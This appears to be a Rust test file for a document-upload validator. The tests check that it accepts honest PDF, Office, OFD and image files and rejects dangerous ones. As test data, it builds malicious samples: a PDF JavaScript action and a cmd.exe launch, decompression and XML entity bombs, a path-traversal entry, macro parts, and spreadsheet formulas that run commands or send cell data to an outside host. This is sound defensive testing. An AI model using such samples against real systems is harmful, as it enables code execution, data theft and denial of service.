//! Honest files pass, and everything else is told apart by its content.
#![allow(clippy::unwrap_used)]

use std::io::Write;

use super::{Form, Unfit, judge};

fn zlib(open: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(open).unwrap();
    out.finish().unwrap()
}

fn deflate(open: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(open).unwrap();
    out.finish().unwrap()
}

fn pdf(inside: &[u8]) -> Vec<u8> {
    [b"%PDF-1.7\n1 0 obj\n<< /Type /Pages >>\nendobj\n", inside, b"\ntrailer << >>\n%%EOF\n"].concat()
}

/// An object stream with these words, its dictionary as given.
fn folded(dictionary: &str, words: &[u8]) -> Vec<u8> {
    let packed = zlib(&[words, [b' '; 400].as_slice(), words].concat());
    assert_eq!(super::find(&packed, b"/JavaScript"), None, "what is folded cannot be read from outside");
    pdf(&[dictionary.as_bytes(), b"stream\r\n", &packed, b"\r\nendstream\nendobj"].concat())
}

fn le(n: usize, bytes: usize) -> Vec<u8> {
    n.to_le_bytes()[..bytes].to_vec()
}

/// A ZIP archive; `lie` is said of every entry's unfolded length instead of the truth.
fn zip(entries: &[(&str, &[u8])], lie: Option<usize>) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, open) in entries {
        let packed = deflate(open);
        let said = lie.unwrap_or(open.len());
        let at = out.len();
        let middle =
            [le(8, 2), le(0, 8), le(packed.len(), 4), le(said, 4), le(name.len(), 2), le(0, 2)].concat();
        out.extend([b"PK\x03\x04".to_vec(), le(20, 2), le(0, 2), middle.clone()].concat());
        out.extend([name.as_bytes(), &packed].concat());
        directory.extend([b"PK\x01\x02".to_vec(), le(20, 2), le(20, 2), le(0, 2), middle].concat());
        directory.extend([le(0, 2), le(0, 2), le(0, 2), le(0, 4), le(at, 4)].concat());
        directory.extend(name.as_bytes());
    }
    let (n, at, long) = (entries.len(), out.len(), directory.len());
    out.extend(directory);
    out.extend(
        [b"PK\x05\x06".to_vec(), le(0, 4), le(n, 2), le(n, 2), le(long, 4), le(at, 4), le(0, 2)].concat(),
    );
    out
}

fn sheet(formula: &str) -> Vec<u8> {
    let cell = format!("<worksheet><c r=\"A1\"><f>{formula}</f><v>1</v></c></worksheet>");
    zip(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", cell.as_bytes()),
        ],
        None,
    )
}

fn text(name: &str, inside: &[u8]) -> Vec<u8> {
    let document: (&str, &[u8]) = ("word/document.xml", b"<document/>");
    zip(&[("[Content_Types].xml", b"<Types/>"), document, (name, inside)], None)
}

fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR".to_vec();
    out.extend(width.to_be_bytes());
    out.extend(height.to_be_bytes());
    out.extend([8, 2, 0, 0, 0, 0, 0, 0, 0]);
    out.extend(b"\x00\x00\x00\x00IEND\xaeB`\x82");
    out
}

fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut out = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x08\x08".to_vec();
    out.extend(height.to_be_bytes());
    out.extend(width.to_be_bytes());
    out.extend(b"\x01\xff\xda\x00\x02pixels\xff\xd9");
    out
}

#[test]
fn honest_files_are_what_they_are() {
    assert_eq!(judge(&pdf(b"")), Ok(Form::Pdf));
    let objects =
        folded("2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\n", b"3 0 << /A 1 >>");
    assert_eq!(judge(&objects), Ok(Form::Pdf));
    assert_eq!(judge(&png(2480, 3508)), Ok(Form::Png));
    assert_eq!(judge(&jpeg(4032, 3024)), Ok(Form::Jpeg));
    assert_eq!(judge(&sheet("SUM(A2:A9)*1.06")), Ok(Form::Xlsx));
    assert_eq!(judge(&text("word/styles.xml", b"<styles/>")), Ok(Form::Docx));
    assert_eq!(
        judge(&zip(&[("OFD.xml", b"<OFD/>"), ("Doc_0/Pages/Page_0/Content.xml", b"<Page/>")], None)),
        Ok(Form::Ofd)
    );
}

#[test]
fn a_name_or_a_header_makes_no_form() {
    for bytes in
        [b"<html><script>alert(1)</script>".as_slice(), b"<svg xmlns=\"\"/>", b"MZ\x90\x00", b"GIF89a"]
    {
        assert_eq!(judge(bytes), Err(Unfit::Unknown));
    }
    assert_eq!(judge(b""), Err(Unfit::Empty));
    assert_eq!(judge(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), Err(Unfit::OldOffice));
    assert_eq!(judge(&zip(&[("a.txt", b"an archive of anything")], None)), Err(Unfit::Unknown));
    assert_eq!(judge(b" %PDF-1.7 %%EOF"), Err(Unfit::Unknown), "a second form may stand before it");
}

#[test]
fn half_a_file_is_not_whole() {
    for whole in [pdf(b""), png(10, 10), jpeg(10, 10), sheet("1")] {
        assert_eq!(judge(&whole[..whole.len() - 9]), Err(Unfit::Broken));
    }
    assert_eq!(judge(b"\x89PNG\r\n\x1a\n"), Err(Unfit::Broken));
    assert_eq!(judge(b"\xff\xd8\xff"), Err(Unfit::Broken));
    assert_eq!(judge(b"PK\x03\x04"), Err(Unfit::Broken));
}

#[test]
fn a_pdf_that_acts_is_refused_wherever_it_says_so() {
    let action = b"<< /S /JavaScript /JS (app.alert(1)) >>";
    assert_eq!(judge(&pdf(action)), Err(Unfit::Acts));
    assert_eq!(judge(&pdf(b"<< /S /J#61vaScript >>")), Err(Unfit::Acts), "escaped");
    for dictionary in [
        "2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\n",
        // what a lenient reader needs no type for
        "2 0 obj\n<< /N 1 /Fir#73t 4 /Filter /FlateDecode >>\n",
    ] {
        assert_eq!(judge(&folded(dictionary, action)), Err(Unfit::Acts), "{dictionary}");
    }
    assert_eq!(judge(&pdf(b"<< /S /Launch /F (cmd.exe) >>")), Err(Unfit::Acts));
    assert_eq!(judge(&pdf(b"<< /AcroForm << /XFA 3 0 R >> >>")), Err(Unfit::Acts));
    assert_eq!(judge(&pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>")), Err(Unfit::Carries));
    assert_eq!(judge(&pdf(b"trailer << /Encrypt 5 0 R >>")), Err(Unfit::Locked));
    let hidden = "2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\n";
    assert_eq!(judge(&folded(hidden, action)), Err(Unfit::Locked));
}

#[test]
fn what_unfolds_without_end_is_cut_off() {
    let much = vec![b' '; 80 * 1024 * 1024];
    let objects = folded("2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\n", &much);
    assert!(objects.len() < 200_000, "a bomb is small");
    assert_eq!(judge(&objects), Err(Unfit::Swells));
    let bomb = text("word/media/a.xml", &much);
    assert_eq!(judge(&bomb), Err(Unfit::Swells));
    let lying = zip(
        &[("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<w/>"), ("xl/a.bin", &much)],
        Some(10),
    );
    assert_eq!(judge(&lying), Err(Unfit::Broken), "it says ten bytes and unfolds to more");
    assert_eq!(judge(&png(60_000, 60_000)), Err(Unfit::Vast));
    assert_eq!(judge(&jpeg(65_000, 65_000)), Err(Unfit::Vast));
    let doctype = b"<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><document/>";
    assert_eq!(judge(&text("word/x.xml", doctype)), Err(Unfit::Swells));
}

/// Blocks of deflate that hold nothing.
fn nothing(bytes: usize) -> Vec<u8> {
    let mut out = [0, 0, 0, 0xFF, 0xFF].repeat(bytes / 5);
    out.extend([1, 0, 0, 0xFF, 0xFF]);
    out
}

#[test]
fn what_unfolds_to_nothing_again_and_again_is_cut_off() {
    // each stream reads all the others, and a megabyte that comes to nothing, once more
    let begin = b"/First\nstream\n\x78\x01";
    let held = [[0].to_vec(), le(begin.len(), 2), le(!begin.len(), 2), begin.to_vec()].concat();
    let streams = |n: usize| pdf(&[begin.to_vec(), held.repeat(n), nothing(1 << 20)].concat());
    assert_eq!(judge(&streams(10)), Ok(Form::Pdf));
    assert_eq!(judge(&streams(200)), Err(Unfit::Swells));
}

#[test]
fn documents_that_run_carry_or_fetch_are_refused() {
    assert_eq!(judge(&text("word/vbaProject.bin", b"x")), Err(Unfit::Acts));
    let types = b"<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>";
    assert_eq!(judge(&text("word/more.xml", types)), Err(Unfit::Acts));
    assert_eq!(judge(&text("word/embeddings/a.xlsx", b"x")), Err(Unfit::Carries));
    assert_eq!(judge(&text("word/media/a.jpg", b"PK\x03\x04more")), Err(Unfit::Carries));
    assert_eq!(judge(&text("word/media/a.png", b"MZ\x90")), Err(Unfit::Carries));
    assert_eq!(judge(&text("../../etc/passwd", b"x")), Err(Unfit::Broken));
    assert_eq!(judge(&text("xl/externalLinks/externalLink1.xml", b"<x/>")), Err(Unfit::Fetches));
    let remote = b"<Relationships><Relationship Type=\"http://x/relationships/attachedTemplate\" \
                   Target=\"http://elsewhere/a.dotm\" TargetMode=\"External\"/></Relationships>";
    assert_eq!(judge(&text("word/_rels/settings.xml.rels", remote)), Err(Unfit::Fetches));
    let link = b"<Relationships><Relationship Type=\"http://x/relationships/hyperlink\" \
                 Target=\"http://elsewhere/\" TargetMode=\"External\"/></Relationships>";
    assert_eq!(judge(&text("word/_rels/document.xml.rels", link)), Ok(Form::Docx));
    assert_eq!(judge(&text("word/a.xml", "<w>\0</w>".as_bytes())), Err(Unfit::Broken));
}

#[test]
fn sums_stay_and_commands_go() {
    assert_eq!(judge(&sheet("IF(A1&gt;0,\"是\",\"否\")")), Ok(Form::Xlsx));
    for formula in ["cmd|'/c calc'!A0", "WEBSERVICE(\"http://x/\"&amp;A1)", "webservice(A1)", "RTD(\"x\",,1)"]
    {
        assert_eq!(judge(&sheet(formula)), Err(Unfit::Fetches), "{formula}");
    }
}

#[test]
fn a_directory_that_readers_would_find_differently_is_not_taken() {
    let honest = sheet("SUM(A1:A2)");
    assert_eq!(judge(&honest), Ok(Form::Xlsx));
    let end = honest.len() - 22;
    // a comment that is announced and not there: others look further up for an end record
    let mut comment = honest.clone();
    comment[end + 20] = 1;
    assert_eq!(judge(&comment), Err(Unfit::Broken));
    // ZIP64: its locator stands before the end record and names another directory
    let locator = [b"PK\x06\x07".to_vec(), vec![0; 16]].concat();
    let zip64 = [&honest[..end], &locator, &honest[end..]].concat();
    assert_eq!(judge(&zip64), Err(Unfit::Broken));
    // something in front of everything: others move every place by it
    let moved = [b"PK\x03\x04 in front".as_slice(), &honest].concat();
    assert_eq!(judge(&moved), Err(Unfit::Broken));
}
